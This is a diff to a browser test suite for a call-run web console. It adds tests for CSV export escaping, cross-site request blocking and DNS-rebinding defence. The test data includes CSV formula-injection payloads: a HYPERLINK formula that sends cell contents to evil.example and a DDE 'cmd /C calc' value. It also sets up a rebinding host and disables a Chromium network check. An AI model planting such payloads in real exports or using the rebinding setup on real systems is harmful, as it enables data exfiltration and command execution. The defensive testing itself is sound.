@@ -5,9 +5,10 @@
 // dialgate (the simulator never saw more of the run's calls live at once). Screenshots go to
 // test-results/console/. Steps whose API routes have not landed yet are skipped, saying so.
 
-import { existsSync, mkdirSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { type Browser, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, type TestContext, test } from 'vitest';
 import { type LocalStack, startLocalStack } from '../../tools/local/stack.ts';
@@ -21,6 +22,9 @@ const API_KEY = 'console-test-key';
 /** Twilio's magic number that fails at create (21211): a lead that ends `failed`. */
 const INVALID_NUMBER = '+15005550001';
 
+/** A web site whose name an attacker pointed at 127.0.0.1 (DNS rebinding). */
+const REBINDING_HOST = 'evil.example';
+
 /** The flags this machine needs: no sandbox as root, and no background traffic to a closed network. */
 const CHROMIUM_ARGS = [
   '--no-sandbox',
@@ -30,6 +34,11 @@ const CHROMIUM_ARGS = [
   '--disable-background-networking',
   '--disable-component-update',
   '--disable-sync',
+  // DNS rebinding, for the local stack's Host check: evil.example resolves to this machine. Chromium's
+  // own Local Network Access check would stop that page's requests before they reach the server; it is
+  // off, so the test sees what a browser without that check sends, and what the server answers.
+  `--host-resolver-rules=MAP ${REBINDING_HOST} 127.0.0.1`,
+  '--disable-features=LocalNetworkAccessChecks',
 ];
 
 const haveChromium = existsSync(CHROMIUM);
@@ -75,12 +84,21 @@ describe.skipIf(!haveChromium)('the web console in Chromium', { timeout: 120_000
     page.on('response', async (response) => {
       const url = new URL(response.url());
       if (!response.url().startsWith(stack.apiUrl) || !isApiPath(url.pathname)) return;
+      // A page of another origin gets an opaque response, whose headers and body Chromium withholds.
+      if (new URL(response.frame().url()).origin !== new URL(stack.apiUrl).origin) return;
+      let body: string;
+      try {
+        body = await response.text();
+      } catch {
+        // The page moved on before the body came (a test navigating elsewhere): nothing to check.
+        return;
+      }
       contract.check({
         method: response.request().method(),
         path: url.pathname,
         status: response.status(),
         headers: new Headers(response.headers()),
-        body: await response.text().catch(() => ''),
+        body,
       });
     });
   }, 120_000);
@@ -155,7 +173,9 @@ describe.skipIf(!haveChromium)('the web console in Chromium', { timeout: 120_000
 
   test('asks for the API key, and keeps it for this tab', async () => {
     await page.goto(stack.apiUrl);
-    await expect.poll(() => page.locator('#alert').textContent()).toContain('Enter the API key');
+    await expect
+      .poll(() => page.locator('#alert').textContent(), { timeout: 10_000 })
+      .toContain('Enter the API key');
     expect(await page.locator('#connection').getAttribute('open')).not.toBeNull();
     await page.getByLabel('API key').fill(API_KEY);
     await page.getByRole('button', { name: 'Save' }).click();
@@ -316,6 +336,111 @@ describe.skipIf(!haveChromium)('the web console in Chromium', { timeout: 120_000
     await page.getByLabel('show full phone numbers').check();
     await expect.poll(() => page.locator('#calls-table tbody').textContent()).toContain(INVALID_NUMBER);
     await shot('09-calls-failed');
+  });
+
+  test('Download CSV: every call of the filter, formula cells neutralised, phone numbers usable', async (ctx) => {
+    await requireRoute(ctx, 'GET', '/runs/x/calls');
+    // Valid Israeli mobiles (libphonenumber-js max), used by no other test here.
+    const dana = '+972524567301';
+    const noa = '+972534881302';
+    const { body } = await api('POST', '/runs', {
+      concurrency: 2,
+      leads: [
+        { phone: dana, name: '=HYPERLINK("https://evil.example/?"&A2,"Dana")', balance: -120 },
+        { phone: noa, name: '@SUM(1+1)', balance: '+35' },
+        { phone: INVALID_NUMBER, name: "-cmd|' /C calc'!A0" },
+      ],
+    });
+    const runId = body.run_id as string;
+    await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
+    await waitForStatus(['completed']);
+
+    /** Clicks Download CSV and reads the file the browser saved. */
+    async function download() {
+      const [saved] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Download CSV' }).click(),
+      ]);
+      const text = readFileSync((await saved.path())!, 'utf8');
+      return { name: saved.suggestedFilename(), text, rows: parseCsv(text, { bom: true }) as string[][] };
+    }
+
+    await page.getByLabel('show full phone numbers').check();
+    const whole = await download();
+    expect(whole.name).toBe(`dialgate-${runId}-calls.csv`);
+    // A byte order mark for Excel, then every cell quoted.
+    expect(whole.text.startsWith('\uFEFF"job_id","phone",')).toBe(true);
+    const [header, ...rows] = whole.rows as [string[], ...string[][]];
+    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
+    expect(column('phone')).toEqual([dana, noa, INVALID_NUMBER]);
+    expect(column('name')).toEqual([
+      `'=HYPERLINK("https://evil.example/?"&A2,"Dana")`,
+      "'@SUM(1+1)",
+      "'-cmd|' /C calc'!A0",
+    ]);
+    expect(column('balance')).toEqual(['-120', '+35', '']);
+    expect(await page.locator('#calls-download-result').textContent()).toBe('3 calls saved as CSV.');
+
+    // The table's filter and phone setting apply: the failed call, its number masked.
+    await page.getByLabel('show full phone numbers').uncheck();
+    await page.getByLabel('Status').selectOption('failed');
+    const failed = await download();
+    expect(failed.name).toBe(`dialgate-${runId}-failed-calls.csv`);
+    expect(failed.rows.slice(1).map((row) => row[1])).toEqual(['+150******01']);
+    expect(await page.locator('#calls-download-result').textContent()).toContain(
+      '1 failed call saved as CSV, phone numbers masked',
+    );
+    await shot('09b-calls-download');
+  });
+
+  test('pages of other sites: a cross-site POST cannot cancel a run, a rebound page cannot read whole numbers', async () => {
+    const { body } = await api('POST', '/runs', {
+      concurrency: 1,
+      leads: phones(2).map((phone) => ({ phone })),
+    });
+    const runId = body.run_id as string;
+    // A run that stays as it is while it is attacked: paused (nothing new is dialed).
+    await expect
+      .poll(async () => (await api('POST', `/runs/${runId}/pause`)).status, { timeout: 30_000 })
+      .toBe(200);
+    const port = new URL(stack.apiUrl).port;
+
+    // Another site on this machine (http://localhost:<port> is not the same site as 127.0.0.1): its
+    // POST needs no preflight, so Chromium sends it, with its own Origin and Sec-Fetch-Site.
+    await page.goto(`http://localhost:${port}/#/`);
+    const cancel = `${stack.apiUrl}/runs/${runId}/cancel?hangup=true`;
+    const [answer] = await Promise.all([
+      page.waitForResponse(cancel),
+      page.evaluate((url) => fetch(url, { method: 'POST', mode: 'no-cors' }).then(() => undefined), cancel),
+    ]);
+    // The guard's 403, not the API key's 401: the request never reached the API. (Its body is the
+    // browser's to withhold from another origin's page: an opaque response.)
+    expect(answer.status()).toBe(403);
+    expect(
+      await (await fetch(`${stack.apiUrl}/runs/${runId}`, { headers: { 'x-api-key': API_KEY } })).json(),
+    ).toMatchObject({
+      status: 'paused',
+    });
+
+    // A page on evil.example, then resolved to 127.0.0.1: to the browser, the API is its own origin.
+    const attack = `http://${REBINDING_HOST}:${port}/attack.html`;
+    await page.route(attack, (route) =>
+      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Win a prize</title>' }),
+    );
+    try {
+      await page.goto(attack);
+      const read = await page.evaluate(
+        (path) =>
+          fetch(path).then(async (response) => ({ status: response.status, text: await response.text() })),
+        `/runs/${runId}/calls?reveal_phone=true`,
+      );
+      expect(read.status).toBe(403);
+      expect(read.text).toContain('The Host header does not name this server');
+      expect(read.text).not.toContain('+1415');
+    } finally {
+      await page.unroute(attack);
+    }
+    expect((await api('POST', `/runs/${runId}/cancel?hangup=true`)).status).toBe(200);
   });
 
   test('an unknown run: a clear message and no control to press, even right after a run that had them', async () => {
